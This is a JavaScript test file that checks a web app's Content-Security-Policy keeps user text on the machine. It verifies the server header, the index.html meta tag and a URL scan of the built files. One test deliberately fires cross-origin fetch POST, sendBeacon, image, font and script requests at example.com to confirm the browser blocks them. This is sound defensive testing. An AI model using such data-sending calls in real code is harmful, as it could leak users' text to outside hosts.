// Texts never leave the machine (issue 6, item 6). The harness already fails every browser test
// that makes a request to another origin; this file checks the rules that make it so:
//   - the Content-Security-Policy the server sends (on the page and on the worker's script, which
//     a worker takes its policy from) and the one in index.html (source, dist/ and the single
//     file) allow no other origin for scripts, styles, fonts, images, connections or workers;
//   - the browser enforces it: requests to another origin from the page and from the worker are
//     refused by the policy (a securitypolicyviolation), not sent;
//   - the built files name no other host except inert strings (XML namespaces, text in a
//     message), each listed below with why it is harmless.
// Needs dist/ (`cargo xtask build`).
import assert from 'node:assert/strict';
import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs';
import { join, relative } from 'node:path';
import { test } from 'node:test';
import { ROOT, startServer, startSession } from './harness.mjs';
import { openPage } from './files.mjs';

const DIST = join(ROOT, 'dist');

/** The directives that fetch something, and where each falls back to (CSP Level 3). */
const FALLBACK = {
  'script-src': ['default-src'],
  'style-src': ['default-src'],
  'font-src': ['default-src'],
  'img-src': ['default-src'],
  'connect-src': ['default-src'],
  'media-src': ['default-src'],
  'manifest-src': ['default-src'],
  'object-src': ['default-src'],
  'frame-src': ['child-src', 'default-src'],
  'worker-src': ['child-src', 'script-src', 'default-src'],
};
/** Sources that name no other origin; the keywords only where they make sense. */
const LOCAL = new Set(["'self'", "'none'", 'data:', 'blob:']);
const ALSO = { 'script-src': ["'wasm-unsafe-eval'"], 'style-src': ["'unsafe-inline'"] };

function parseCsp(policy) {
  const directives = new Map();
  for (const part of policy.split(';')) {
    const [name, ...sources] = part.trim().split(/\s+/);
    if (name) directives.set(name.toLowerCase(), sources);
  }
  return directives;
}

/** Asserts that `policy` lets nothing be fetched from, or sent to, another origin. */
function assertLocalOnly(policy, where) {
  const directives = parseCsp(policy);
  assert.ok(directives.has('default-src'), `${where}: no default-src, so unlisted kinds of request are unrestricted`);
  for (const [directive, fallbacks] of Object.entries(FALLBACK)) {
    const from = [directive, ...fallbacks].find((name) => directives.has(name));
    const sources = directives.get(from);
    for (const source of sources) {
      const allowed =
        LOCAL.has(source) ||
        (ALSO[directive] ?? []).includes(source) ||
        /^'sha(256|384|512)-[A-Za-z0-9+/=]+'$/.test(source);
      assert.ok(allowed, `${where}: ${directive} (as ${from}) allows ${source}`);
    }
  }
  assert.deepEqual(directives.get('object-src'), ["'none'"], `${where}: object-src`);
  assert.deepEqual(directives.get('base-uri'), ["'none'"], `${where}: base-uri`);
  // form-action does not fall back to default-src: without it a form could post the text away.
  assert.deepEqual(directives.get('form-action'), ["'none'"], `${where}: form-action`);
}

const metaCsp = (html) => /<meta http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(html)?.[1];

test('the policy the server sends and the one in index.html allow no other origin', { timeout: 120_000 }, async (t) => {
  const server = await startServer();
  t.after(() => server.close());
  const page = await fetch(server.url);
  const header = page.headers.get('content-security-policy');
  assert.ok(header, 'the server sends no Content-Security-Policy');
  assertLocalOnly(header, 'server header');
  // A worker's policy is the one sent with its script, not the page's.
  const worker = readdirSync(join(DIST, 'assets')).find((name) => /^worker-.*\.js$/.test(name));
  assert.ok(worker, 'no worker script in dist/assets');
  const workerResponse = await fetch(new URL(`assets/${worker}`, server.url));
  assert.equal(
    workerResponse.headers.get('content-security-policy'),
    header,
    'the worker script comes without the policy',
  );
  assert.equal(page.headers.get('referrer-policy'), 'no-referrer');

  const source = metaCsp(readFileSync(join(ROOT, 'index.html'), 'utf8'));
  const built = metaCsp(await page.text());
  assert.ok(source && built, 'index.html has no CSP meta tag');
  assert.equal(built, source, 'dist/index.html carries another policy than index.html');
  assertLocalOnly(source, 'index.html meta');
  // The same rules as the header (the comment in index.html promises it).
  assert.deepEqual(parseCsp(source), parseCsp(header), 'index.html and the server disagree');

  const single = join(ROOT, 'dist-single/wenxi.html');
  if (existsSync(single)) {
    const policy = metaCsp(readFileSync(single, 'utf8'));
    assert.ok(policy, 'the single file has no CSP');
    assertLocalOnly(policy, 'dist-single/wenxi.html');
    t.diagnostic(`single file: ${policy}`);
  }
  t.diagnostic(`served: ${header}`);
});

test('the browser refuses requests to other origins from the page and the worker', { timeout: 120_000 }, async (t) => {
  const session = await startSession();
  t.after(() => session.close());
  // Were the policy to fail, nothing would leave this machine anyway: such a request would end
  // here (and be counted), past the policy, where the network would begin.
  const reachedNetwork = [];
  await session.context.route(
    (url) => new URL(url).hostname === 'example.com',
    (route) => {
      reachedNetwork.push(route.request().url());
      return route.abort();
    },
  );
  const failures = [];
  session.context.on('requestfailed', (request) => failures.push(`${request.url()} ${request.failure()?.errorText}`));
  const page = await openPage(session);

  const page_ = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', (e) =>
      violations.push(`${e.effectiveDirective} ${e.blockedURI}`),
    );
    const outcome = (promise) =>
      promise.then(
        () => 'loaded',
        (err) => `refused: ${err?.name ?? err}`,
      );
    const image = new Promise((resolve, reject) => {
      const img = new Image();
      img.onload = resolve;
      img.onerror = () => reject(new Error('image'));
      img.src = 'https://example.com/pixel.png';
    });
    const results = {
      fetch: await outcome(fetch('https://example.com/collect', { method: 'POST', body: 'text' })),
      image: await outcome(image),
      font: await outcome(new FontFace('Remote', 'url(https://example.com/font.woff2)').load()),
      script: await outcome(import('https://example.com/script.js')),
    };
    // sendBeacon() answers before the request is checked; the violation below is the answer.
    navigator.sendBeacon('https://example.com/beacon', 'text');
    await new Promise((resolve) => setTimeout(resolve, 200));
    return { results, violations };
  });
  t.diagnostic(`page: ${JSON.stringify(page_.results)}`);
  for (const [kind, result] of Object.entries(page_.results)) assert.match(result, /^refused/, `${kind}: ${result}`);
  for (const [directive, path] of [
    ['connect-src', 'collect'],
    ['img-src', 'pixel.png'],
    ['font-src', 'font.woff2'],
    ['script-src-elem', 'script.js'],
    ['connect-src', 'beacon'],
  ]) {
    const blocked = `${directive} https://example.com/${path}`;
    assert.ok(
      page_.violations.includes(blocked),
      `not refused by the policy: ${blocked}; violations: ${page_.violations}`,
    );
  }

  const [worker] = page.workers();
  assert.ok(worker, 'no worker');
  const inWorker = await worker.evaluate(async () => {
    const violations = [];
    self.addEventListener('securitypolicyviolation', (e) => violations.push(`${e.effectiveDirective} ${e.blockedURI}`));
    const result = await fetch('https://example.com/from-worker').then(
      () => 'loaded',
      (err) => `refused: ${err.name}`,
    );
    await new Promise((resolve) => setTimeout(resolve, 200));
    return { result, violations };
  });
  assert.match(inWorker.result, /^refused/);
  assert.ok(
    inWorker.violations.some((v) => v.startsWith('connect-src')),
    `worker violations: ${inWorker.violations}`,
  );

  // The browser reports each refusal on the console; those are the only errors allowed here,
  // and not one request may have reached the network layer.
  const refusals = (line) => /Content Security Policy|example\.com/.test(line);
  const other = session.consoleErrors.filter((line) => !refusals(line));
  session.consoleErrors.splice(0, session.consoleErrors.length, ...other);
  assert.deepEqual(reachedNetwork, [], 'requests got past the policy');
  t.diagnostic(`requests to example.com, as the browser reports them: ${failures.join(' | ')}`);
  for (const failure of failures) assert.match(failure, / (csp|net::ERR_BLOCKED_BY_CSP)$/);
  session.requests.splice(0, session.requests.length, ...session.requests.filter((u) => !u.includes('example.com')));
  session.assertClean();
});

/**
 * http(s) URLs of other hosts that the built files may contain, and why each is inert. Anything
 * else fails the test: a new one must be looked at and added here with its reason.
 */
const INERT = [
  [
    /^http:\/\/www\.w3\.org\/(2000\/svg|1999\/xlink|1999\/xhtml|2000\/xmlns\/|XML\/1998\/namespace|2001\/XMLSchema-instance)$/,
    'an XML namespace name: an identifier, never fetched',
  ],
  [
    /^http:\/\/gexf\.net\/1\.3(\/viz|\/gexf\.xsd)?$/,
    'namespace and schemaLocation written into the GEXF export file; the page never fetches them',
  ],
  [
    /^https:\/\/bit\.ly\/wb-precache$/,
    'text of a Workbox console warning in sw.js (a link for developers, not a request)',
  ],
];

function builtFiles(dir) {
  return readdirSync(dir).flatMap((name) => {
    const path = join(dir, name);
    if (statSync(path).isDirectory()) return name === 'seeds' ? [] : builtFiles(path); // the seeds are article text, not code
    return [path];
  });
}

test('the built files name no other host but inert namespace and message strings', (t) => {
  const found = new Map(); // url -> files
  const files = builtFiles(DIST);
  const single = join(ROOT, 'dist-single/wenxi.html');
  if (existsSync(single)) files.push(single);
  for (const path of files) {
    const text = readFileSync(path, path.endsWith('.wasm') || path.endsWith('.png') ? 'latin1' : 'utf8');
    for (const [url] of text.matchAll(/https?:\/\/[^\s"'`()<>\\,;]+/g)) {
      const host = new URL(url).hostname;
      if (host === 'localhost' || host === '127.0.0.1') continue;
      found.set(url, [...(found.get(url) ?? []), relative(ROOT, path)]);
    }
    if (/\.(css|html)$/.test(path)) {
      // Protocol-relative references (//host/...) load from another origin too.
      assert.doesNotMatch(
        text,
        /(src|href)\s*=\s*["']\/\/|url\(\s*["']?\/\//,
        `${relative(ROOT, path)} references //another-host`,
      );
      assert.doesNotMatch(
        text,
        /@import\s+(url\()?["']?https?:/,
        `${relative(ROOT, path)} imports a remote stylesheet`,
      );
    }
  }
  const report = [...found].map(([url, where]) => `${url} (${[...new Set(where)].join(', ')})`);
  for (const [url, where] of found) {
    const known = INERT.find(([pattern]) => pattern.test(url));
    assert.ok(known, `${url} in ${[...new Set(where)].join(', ')} is not known to be inert`);
    t.diagnostic(`${url} — ${known[1]}`);
  }
  assert.ok(
    files.some((f) => f.endsWith('.wasm')),
    'the scan did not include the .wasm',
  );
  assert.ok(report.length > 0, 'no URL found at all: the scan is broken');
});
